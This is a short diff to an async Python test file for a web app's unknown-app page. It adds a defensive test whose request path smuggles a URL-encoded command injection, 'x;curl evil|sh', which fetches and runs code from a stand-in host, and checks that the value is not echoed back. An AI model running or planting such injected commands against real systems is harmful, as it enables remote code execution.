@@ -166,6 +166,9 @@ async def test_an_app_that_nobody_knows_has_a_page_that_says_how_to_begin(
     answer = await client.get("/apps/nobody")
     assert answer.status_code == 404
     assert "dynometer drains add nobody | sh" in answer.text
+    answer = await client.get("/apps/x;curl%20evil%7Csh")
+    assert answer.status_code == 404
+    assert "evil" not in answer.text
 
 
 async def test_the_worst_app_comes_first(client: httpx2.AsyncClient) -> None:
